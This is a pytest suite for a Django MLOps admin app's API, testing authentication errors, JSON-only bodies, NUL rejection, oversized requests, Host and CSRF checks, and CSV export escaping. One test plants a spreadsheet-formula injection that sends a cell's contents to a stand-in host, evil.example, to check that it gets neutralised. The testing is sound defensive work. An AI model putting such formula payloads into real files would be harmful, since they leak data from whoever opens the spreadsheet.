"""The API's contract, for every operation: a bad token is 401 JSON on every method; bodies are JSON
objects sent as application/json (415/422 otherwise, nothing changed); every error under /api/ is the
documented `{"detail": ...}` shape, Django's own 404/405/500 included; NUL characters are refused with 400,
not a 500; MLflow's own 500 is not "not answering"; CSV exports cannot smuggle spreadsheet formulas."""

from __future__ import annotations

import re

import pytest
from django.test import Client

from mlopsadmin.audit.selectors import parse_csv_export
from mlopsadmin.audit.services import audit_record
from mlopsadmin.core.models import ApiToken
from mlopsadmin.core.services import api_token_create, api_token_revoke
from mlopsadmin.lib import mlflow_client as mlf

from .faults import FaultProxy

pytestmark = pytest.mark.django_db


def operations(client: Client) -> list[tuple[str, str]]:
    document = client.get("/api/v1/openapi.json").json()
    found = []
    for path, item in document["paths"].items():
        for method in item:
            found.append((method.upper(), re.sub(r"\{[^}]+\}", "1", path)))
    return found


def assert_json_error(response, status: int) -> dict:  # type: ignore[no-untyped-def]
    assert response.status_code == status, (response.status_code, response.content[:200])
    assert response["Content-Type"].startswith("application/json"), response["Content-Type"]
    body = response.json()
    assert isinstance(body["detail"], str) and body["detail"]
    return body


def test_a_bad_or_revoked_token_is_401_json_on_every_operation(personas) -> None:
    _, raw = api_token_create(actor="test", user=personas["lead_search"], name="ci")
    api_token_revoke(actor="test", user=personas["lead_search"], token_id=ApiToken.objects.get(name="ci").pk)
    client = Client(enforce_csrf_checks=True)
    checked = 0
    for method, path in operations(client):
        if path.endswith("openapi.json"):
            continue
        for header in (f"Bearer {raw}", "Bearer mlops_not-a-token", "Basic dXNlcjpwYXNz"):
            response = client.generic(
                method, path, data="{}", content_type="application/json", HTTP_AUTHORIZATION=header
            )
            assert_json_error(response, 401)
            checked += 1
    assert checked >= 30


@pytest.mark.parametrize(
    ("body", "content_type", "status"),
    [
        ("null", "application/json", 422),
        ("[]", "application/json", 422),
        ('"3"', "application/json", 422),
        ('{"version": "3"', "application/json", 422),
        ('{"version": "3"}', "text/plain", 415),
        ("version=3", "application/x-www-form-urlencoded", 415),
        ('{"version": "3", "override_reason": "a\\u0000b"}', "application/json", 422),
    ],
)
def test_a_body_that_is_not_a_json_object_changes_nothing(login, mlflow, body, content_type, status) -> None:
    before = mlf.get_registered_model("search-ranker").aliases
    response = login("lead_search").post("/api/v1/models/search-ranker/promote", data=body, content_type=content_type)
    body = assert_json_error(response, status)
    assert "JSON" in body["detail"] or "NUL" in body["detail"]  # refused for the body, not by the gate
    assert mlf.get_registered_model("search-ranker").aliases == before


def test_django_404_405_and_500_under_api_are_json(login, monkeypatch) -> None:
    client = login("admin")
    assert_json_error(client.get("/api/v1/no-such-endpoint"), 404)
    body = assert_json_error(client.get("/api/v1/models/search-ranker/promote"), 405)
    assert "POST" in body["detail"]

    from mlopsadmin import policy

    def broken(*args: object, **kwargs: object) -> None:
        raise RuntimeError("a bug")

    monkeypatch.setattr(policy, "require", broken)  # a bug inside an operation
    client.raise_request_exception = False
    response = client.get("/api/v1/audit-events")
    assert_json_error(response, 500)
    assert "a bug" not in response.content.decode()


def test_nul_in_a_path_query_or_form_field_is_400(login, personas) -> None:
    client = login("lead_search")
    assert client.get("/registry/models/search%00ranker/").status_code == 400
    assert client.get("/catalog/?q=a%00b").status_code == 400
    assert_json_error(client.get("/api/v1/registry/models/a%00b"), 400)
    response = client.post("/account/tokens/", {"name": "ci\x00x"})
    assert response.status_code == 400
    assert not personas["lead_search"].api_tokens.exists()


def test_mlflows_own_500_is_not_reported_as_not_answering(login, settings, mlflow) -> None:
    client = login("admin")
    with FaultProxy(mlflow) as proxy:
        settings.MLFLOW_TRACKING_URI = proxy.url
        proxy.fail_with = 500
        api = client.get("/api/v1/registry/models")
        page = client.get("/registry/")
    body = assert_json_error(api, 502)
    assert "unreachable" not in body["detail"] and "not answering" not in body["detail"]
    assert page.status_code == 502 and b"not answering" not in page.content


def test_csv_cells_cannot_start_a_formula(login, personas) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    audit_record(actor=personas["admin"], action="test.csv", target_kind="model", target_id=formula, reason="@SUM(1)")
    text = b"".join(login("auditor").get("/audit/export.csv?action=test.csv").streaming_content).decode()
    assert "'=HYPERLINK" in text and "'@SUM(1)" in text
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in text.splitlines() for cell in line.split(","))
    row = parse_csv_export(text)[0]
    assert (row["target_id"], row["reason"]) == (formula, "@SUM(1)")  # read back exactly


FORM = "application/x-www-form-urlencoded"


@pytest.mark.parametrize("debug", [False, True])
def test_a_request_refused_before_any_view_is_json_under_api(login, settings, debug: bool) -> None:  # type: ignore[no-untyped-def]
    from django.core.files.uploadedfile import SimpleUploadedFile

    from maintenance.models import TaskRun

    settings.DEBUG = debug  # `make run` serves with DEBUG on: Django's debug pages must not answer the API
    client = login("operator")
    client.raise_request_exception = False
    path = "/api/v1/maintenance/capacity-checks"
    limit = settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    big = '{"x": "' + "a" * limit + '"}'
    body = assert_json_error(client.post(path, data=big, content_type="application/json"), 413)
    assert f"{limit} bytes" in body["detail"]
    declared = client.generic("POST", path, b"{}", content_type="application/json", CONTENT_LENGTH=str(10 * limit))
    assert_json_error(declared, 413)
    many = "&".join(f"f{i}=1" for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1))
    assert "fields" in assert_json_error(client.post(path, data=many, content_type=FORM), 400)["detail"]
    files = {f"f{i}": SimpleUploadedFile(f"{i}.txt", b"x") for i in range(settings.DATA_UPLOAD_MAX_NUMBER_FILES + 1)}
    assert "files" in assert_json_error(client.post(path, data=files), 400)["detail"]
    assert_json_error(client.post(path, data="x", content_type="multipart/form-data"), 400)  # no boundary
    bad_length = client.generic("POST", path, b"{}", content_type="application/json", CONTENT_LENGTH="12abc")
    assert "Content-Length" in assert_json_error(bad_length, 400)["detail"]
    assert not TaskRun.objects.exists()  # nothing was started by any of them


@pytest.mark.parametrize("ssl_redirect", [False, True])
def test_an_unknown_host_is_json_under_api(login, settings, ssl_redirect: bool) -> None:  # type: ignore[no-untyped-def]
    # With the https redirect on (production) the host is checked by the outermost middleware.
    settings.SECURE_SSL_REDIRECT = ssl_redirect
    client = login("operator")
    body = assert_json_error(client.get("/api/v1/audit-events", HTTP_HOST="evil.example"), 400)
    assert "Host" in body["detail"] and "evil.example" not in body["detail"]


def test_a_missing_csrf_token_is_json_under_api(personas) -> None:  # type: ignore[no-untyped-def]
    client = Client(enforce_csrf_checks=True)
    client.force_login(personas["operator"])
    response = client.post("/api/v1/maintenance/capacity-checks", data="{}", content_type="application/json")
    assert "CSRF" in assert_json_error(response, 403)["detail"]


def test_a_page_refuses_an_oversized_body_with_413_not_a_trace(login, settings) -> None:  # type: ignore[no-untyped-def]
    client = login("operator")
    client.raise_request_exception = False
    big = "note=" + "a" * settings.DATA_UPLOAD_MAX_MEMORY_SIZE
    response = client.post("/maintenance/capacity/start", data=big, content_type=FORM)
    assert response.status_code == 413, (response.status_code, response.content[:200])
    assert b"Traceback" not in response.content
    bad_length = client.generic("POST", "/maintenance/capacity/start", b"", content_type=FORM, CONTENT_LENGTH="x")
    assert bad_length.status_code == 400
